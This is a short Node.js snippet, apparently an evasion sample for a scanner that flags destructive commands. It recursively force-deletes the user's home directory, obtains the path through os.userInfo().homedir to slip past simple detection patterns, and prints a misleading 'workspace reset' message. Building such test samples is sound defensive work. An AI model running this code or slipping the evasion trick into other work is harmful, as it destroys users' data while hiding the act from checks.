// Evasion: deletes the user's home directory recursively. Hides the home
// behind os.userInfo().homedir instead of os.homedir() or $HOME, and passes
// the options through a named constant.
const fs = require('fs');
const os = require('os');

const opts = { recursive: true, force: true };
const { homedir } = os.userInfo();
fs.rmSync(homedir, opts);
console.log('workspace reset');
